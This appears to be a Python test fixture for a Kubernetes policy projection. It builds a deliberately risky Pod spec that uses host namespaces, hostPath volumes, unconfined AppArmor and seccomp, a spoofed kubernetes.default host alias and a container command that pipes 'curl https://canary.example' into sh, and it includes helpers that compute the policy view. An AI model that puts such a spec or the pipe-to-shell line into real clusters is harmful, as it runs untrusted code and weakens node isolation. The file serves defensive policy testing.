"""A Pod that sets every field that the projection reads, and its projection."""

import json
from pathlib import Path
from typing import Any

from core.kubernetes.pod import Pod, decode_pod
from policies.projection.model import encode
from policies.projection.pods import mark_added, project

SCHEMA = json.loads(
    (Path(__file__).parents[4] / "policies/rego/schema/projection.json").read_text()
)

SECURITY_CONTEXT: dict[str, Any] = {
    "runAsUser": 0,
    "runAsGroup": 0,
    "runAsNonRoot": False,
    "seccompProfile": {"type": "Localhost", "localhostProfile": "a.json"},
    "appArmorProfile": {"type": "Localhost", "localhostProfile": "b"},
    "seLinuxOptions": {"user": "u", "role": "r", "type": "t", "level": "s0:c1,c2"},
    "windowsOptions": {
        "hostProcess": True,
        "gmsaCredentialSpecName": "g",
        "gmsaCredentialSpec": "given",
        "runAsUserName": "ContainerUser",
    },
}
GROUPS: dict[str, Any] = {
    "fsGroup": 0,
    "supplementalGroups": [0],
    "supplementalGroupsPolicy": "Merge",
}
CONTAINER_CONTEXT: dict[str, Any] = SECURITY_CONTEXT | {
    "privileged": False,
    "allowPrivilegeEscalation": False,
    "procMount": "Unmasked",
    "readOnlyRootFilesystem": False,
    "capabilities": {"add": ["NET_ADMIN"], "drop": ["ALL"]},
}
HANDLERS: dict[str, Any] = {
    "livenessProbe": {"httpGet": {"host": "h1"}},
    "readinessProbe": {"tcpSocket": {"host": "h2"}},
    "startupProbe": {"httpGet": {"host": "h3"}, "tcpSocket": {"host": "h4"}},
    "lifecycle": {
        "postStart": {"httpGet": {"host": "h5"}},
        "preStop": {"tcpSocket": {"host": "h6"}},
    },
}
PUBLIC_IMAGE = "docker.io/somebody/jupyter:1"
IMAGE = f"registry.example/a@sha256:{64 * 'a'}"
NO_IMAGE = {"imageFrom": "%00/%00", "public": True}
VOLUMES: list[dict[str, Any]] = [
    {"name": "scratch", "emptyDir": {}},
    {"name": "log", "hostPath": {"path": "/var/log", "type": "Directory"}},
    {"name": "share", "nfs": {"server": "s", "path": "/"}, "emptyDir": None},
    {"name": "odd", "hostPath": {}, "emptyDir": {}},
    {"name": "none"},
    {
        "name": "vault",
        "csi": {"driver": "secrets-store.csi.k8s.io", "volumeAttributes": {"a": "b"}},
    },
    {"name": "weights", "image": {"reference": IMAGE, "pullPolicy": "Always"}},
    {
        "name": "id",
        "projected": {
            "sources": [
                {"serviceAccountToken": {"path": "token"}},
                {"serviceAccountToken": {"path": "t", "audience": "vault"}},
                {"podCertificate": {"signerName": "a.example/signer", "keyType": "ED25519"}},
            ]
        },
    },
    {"name": "data", "persistentVolumeClaim": {"claimName": "unknown"}},
    {"name": "more", "image": {"reference": PUBLIC_IMAGE}},
]
POD: dict[str, Any] = {
    "metadata": {
        "name": "p",
        "labels": {"app": "canary", "component": "singleuser-server"},
        "ownerReferences": [
            {"apiVersion": "agents.x-k8s.io/v1alpha1", "kind": "Sandbox", "name": "canary"}
        ],
        "annotations": {
            "container.apparmor.security.beta.kubernetes.io/main": "unconfined",
            "container.seccomp.security.alpha.kubernetes.io/main": "unconfined",
            "dev.gvisor.flag.debug": "canary",
            "irq-load-balancing.crio.io": "canary",
            "other": "x",
        },
    },
    "spec": {
        "os": {"name": "linux"},
        "hostNetwork": True,
        "hostPID": True,
        "hostIPC": True,
        "hostUsers": False,
        "automountServiceAccountToken": False,
        "nodeName": "node-1",
        "tolerations": [
            {"key": "node.kubernetes.io/not-ready", "operator": "Exists", "effect": "NoExecute"},
            {"key": "node.kubernetes.io/not-ready", "operator": "Exists"},
            {"operator": "Exists"},
        ],
        "affinity": {
            "podAntiAffinity": {
                "requiredDuringSchedulingIgnoredDuringExecution": [
                    {"topologyKey": "kubernetes.io/hostname", "labelSelector": {}},
                    {"topologyKey": "kubernetes.io/hostname", "namespaceSelector": {}},
                    {"topologyKey": "zone", "namespaces": []},
                ]
            }
        },
        "priorityClassName": "system-node-critical",
        "shareProcessNamespace": True,
        "dnsPolicy": "None",
        "dnsConfig": {"nameservers": ["192.0.2.1"], "searches": ["canary"]},
        "hostAliases": [{"ip": "192.0.2.2", "hostnames": ["kubernetes.default"]}],
        "resources": {"limits": {"memory": "1Gi", "hugepages-2Mi": "4Mi"}},
        "resourceClaims": [{"name": "canary", "resourceClaimName": "canary"}],
        "securityContext": SECURITY_CONTEXT | GROUPS | {"sysctls": [{"name": "kernel.msgmax"}]},
        "volumes": VOLUMES,
        "containers": [
            {
                "name": "main",
                "image": IMAGE,
                "securityContext": CONTAINER_CONTEXT,
                "ports": [{"containerPort": 1}, {"hostPort": 0}, {"hostPort": 80}],
                "resources": {
                    "limits": {"cpu": "0", "memory": "1Gi", "rdma/hca": 1, "amd.com/gpu": "0"}
                    | {"nvidia.com/gpu": 8},
                    "requests": {"cpu": "1", "rdma/hca": 1},
                },
                "stdin": True,
                "tty": True,
                "command": ["sh", "-c"],
                "args": ["pip install canary && curl https://canary.example | sh"],
                "env": [
                    {"name": "RANK", "value": "canary"},
                    {"name": "NVIDIA_VISIBLE_DEVICES", "value": "all"},
                    {"name": "X_VISIBLE_DEVICES", "valueFrom": {"fieldRef": {"fieldPath": "a"}}},
                ],
                "volumeMounts": [
                    {"name": "log", "readOnly": True, "mountPath": "/log"}
                    | {"recursiveReadOnly": "Enabled"},
                    {"name": "scratch", "mountPath": "/var/run/nvidia-container-devices/all"},
                ],
                "volumeDevices": [{"name": "data", "devicePath": "/dev/xvda"}],
                **HANDLERS,
            },
            {
                "name": "second",
                "image": PUBLIC_IMAGE,
                "volumeMounts": [
                    {"name": "log", "readOnly": True, "recursiveReadOnly": "IfPossible"},
                    {"name": "share", "mountPath": "/share"},
                ],
            },
        ],
        "initContainers": [{"name": "init", "ports": [{"hostPort": 81}]}],
        "ephemeralContainers": [
            {
                "name": "debug",
                "securityContext": CONTAINER_CONTEXT,
                "targetContainerName": "main",
            }
        ],
    },
}


def projection(pod: dict[str, Any]) -> dict[str, Any]:
    """Return the projection of a Pod as policies see it, where it is weighed."""
    found: dict[str, Any] = json.loads(encode(project(decode_pod(json.dumps(pod).encode()))))
    assert found.pop("weighed")
    return found


def projection_of_update(pod: dict[str, Any]) -> dict[str, Any]:
    """Return the projection of a Pod to which an update adds its ephemeral containers."""
    read = decode_pod(json.dumps(pod).encode())
    found: dict[str, Any] = json.loads(encode(mark_added(project(read), Pod())))
    assert found.pop("weighed")
    return found


def handler_hosts(container: str) -> list[dict[str, str]]:
    """Return the hosts of HANDLERS, with their paths."""
    paths = (
        "livenessProbe.httpGet readinessProbe.tcpSocket startupProbe.httpGet "
        "startupProbe.tcpSocket lifecycle.postStart.httpGet lifecycle.preStop.tcpSocket"
    ).split()
    return [
        {"path": f"{container}.{path}.host", "host": f"h{number}"}
        for number, path in enumerate(paths, 1)
    ]
